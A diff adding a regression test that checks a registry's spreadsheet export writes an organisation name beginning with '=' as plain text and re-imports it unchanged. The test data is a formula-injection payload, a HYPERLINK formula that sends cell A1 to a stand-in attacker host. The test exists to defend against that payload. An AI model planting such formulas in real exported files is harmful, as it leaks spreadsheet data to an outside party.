@@ -77,3 +77,24 @@ def test_a_workbook_with_a_problem_is_refused_by_sheet_row_and_column(demo, tmp_
     assert "Nobody We Know Ltd" in said
     with Session(engine(url_copy)) as s:
         assert s.scalar(select(func.count()).select_from(Organisation)) == before
+
+
+def test_a_name_that_begins_as_a_formula_is_exported_as_text_and_comes_back_the_same(
+    tmp_path, store_url
+):
+    """The fifteenth probe: an organisation named "=HYPERLINK(...)" was written as a live
+    formula. It is written as text, and imported back unchanged."""
+    url = small_programme(tmp_path / "p")
+    name = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
+    with session(url) as s:
+        s.scalars(select(Organisation).order_by(Organisation.id)).first().name = name
+    path = tmp_path / "registry.xlsx"
+    _export(url, path)
+    cells = [c for row in load_workbook(path)["organisations"].iter_rows() for c in row]
+    named = [c for c in cells if c.value == name]
+    assert named and all(c.data_type == "s" for c in named)
+    assert not [c for c in cells if c.data_type == "f"]
+    res = runner.invoke(cli, ["programme", "import", str(path), "--store", store_url])
+    assert res.exit_code == 0, res.output
+    with Session(engine(store_url)) as s:
+        assert s.scalar(select(func.count()).where(Organisation.name == name)) == 1
